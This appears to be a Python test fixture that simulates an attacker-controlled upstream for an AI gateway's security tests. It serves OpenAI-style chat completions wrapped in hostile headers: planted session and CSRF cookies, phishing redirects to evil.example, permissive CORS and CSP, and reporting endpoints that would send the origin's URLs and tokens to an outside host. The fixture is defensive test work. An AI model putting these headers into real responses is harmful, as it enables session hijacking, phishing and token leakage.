"""An upstream under an attacker's control, for the gateway's security tests (test_gateway_security.py).

Whoever can set a connection's base_url can point the gateway here. It records every request exactly as it arrived
(method, raw target, headers, body) and answers what the test asks: by default a small OpenAI chat completion with
usage, wrapped in hostile headers (cookies for Tally's origin, a redirect, an HTML content type, CORS, HSTS...).
`answer(req)` may be replaced by a test; it returns (status, [(name, value)], body) where body is bytes or an
iterable of bytes (sent chunked, one HTTP chunk each). `first_byte_delay` holds the answer back (seconds)."""
import http.server
import json
import threading
import time

HOSTILE_HEADERS = [
    ("Set-Cookie", "tally_session=planted-by-upstream; Path=/; HttpOnly"),
    ("Set-Cookie", "tally_csrf=planted; Path=/"),
    ("Set-Cookie2", "legacy=1"),
    ("Clear-Site-Data", '"cookies", "storage"'),
    ("Refresh", "0; url=https://evil.example/phish"),
    ("Location", "https://evil.example/phish"),
    ("Alt-Svc", 'h3=":443"; ma=86400'),
    ("Strict-Transport-Security", "max-age=63072000; includeSubDomains"),
    ("Content-Security-Policy", "default-src *"),
    ("Content-Security-Policy-Report-Only", "default-src *"),
    ("Access-Control-Allow-Origin", "*"),
    ("Access-Control-Allow-Credentials", "true"),
    # Origin-wide browser policies: NEL/Report-To would report every later URL of Tally's origin (invite links,
    # ?key= tokens) to the upstream's host for a year; `none` before Tally's nosniff would switch sniffing back on.
    ("NEL", '{"report_to":"g","max_age":31536000,"success_fraction":1.0}'),
    ("Report-To", '{"group":"g","max_age":31536000,"endpoints":[{"url":"https://evil.example/r"}]}'),
    ("Reporting-Endpoints", 'g="https://evil.example/r"'),
    ("X-Content-Type-Options", "none"),
    ("X-Frame-Options", "ALLOWALL"),
    ("Referrer-Policy", "unsafe-url"),
    ("X-Request-Id", "req_hostile"),
]

USAGE = {"prompt_tokens": 7, "completion_tokens": 2, "total_tokens": 9}


def chat_completion(model="gpt-4o-mini-2024-07-18"):
    return {"id": "chatcmpl-hostile", "object": "chat.completion", "created": 1700000000, "model": model,
            "choices": [{"index": 0, "message": {"role": "assistant", "content": "hi"}, "finish_reason": "stop"}],
            "usage": USAGE}


class Recorded:
    def __init__(self, method, target, headers, body):
        self.method, self.target, self.body = method, target, body
        self.raw_headers = headers  # [(name, value)] as sent
        self.headers = {k.lower(): v for k, v in headers}

    def __repr__(self):
        return f"Recorded({self.method} {self.target})"


class HostileUpstream:
    def __init__(self):
        self.requests = []
        self.first_byte_delay = 0.0
        self.answer = self.default_answer
        self._cond = threading.Condition()
        upstream = self

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *a):
                pass

            def _any(self):
                n = int(self.headers.get("Content-Length") or 0)
                if self.headers.get("Transfer-Encoding", "").lower() == "chunked":
                    body = b""
                    while True:
                        size = int(self.rfile.readline().split(b";")[0], 16)
                        if size == 0:
                            self.rfile.readline()
                            break
                        body += self.rfile.read(size)
                        self.rfile.readline()
                else:
                    body = self.rfile.read(n) if n else b""
                rec = Recorded(self.command, self.path, list(self.headers.items()), body)
                with upstream._cond:
                    upstream.requests.append(rec)
                    upstream._cond.notify_all()
                status, headers, payload = upstream.answer(rec)
                if upstream.first_byte_delay:
                    time.sleep(upstream.first_byte_delay)
                self.send_response(status)
                for k, v in headers:
                    self.send_header(k, v)
                if isinstance(payload, (bytes, bytearray)):
                    self.send_header("Content-Length", str(len(payload)))
                    self.end_headers()
                    self.wfile.write(payload)
                else:
                    self.send_header("Transfer-Encoding", "chunked")
                    self.end_headers()
                    for piece in payload:
                        if piece:
                            self.wfile.write(b"%x\r\n%s\r\n" % (len(piece), piece))
                    self.wfile.write(b"0\r\n\r\n")
                self.wfile.flush()

            do_GET = do_POST = do_PUT = do_PATCH = do_DELETE = _any

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    @property
    def url(self):
        return f"http://127.0.0.1:{self.server.server_port}"

    def default_answer(self, rec):
        return 200, [("Content-Type", "application/json")] + HOSTILE_HEADERS, json.dumps(chat_completion()).encode()

    def wait_for(self, n, timeout=10.0):
        deadline = time.monotonic() + timeout
        with self._cond:
            while len(self.requests) < n:
                left = deadline - time.monotonic()
                if left <= 0:
                    raise TimeoutError(f"{len(self.requests)} requests, expected {n}")
                self._cond.wait(left)
            return list(self.requests)

    def close(self):
        self.server.shutdown()
        self.server.server_close()
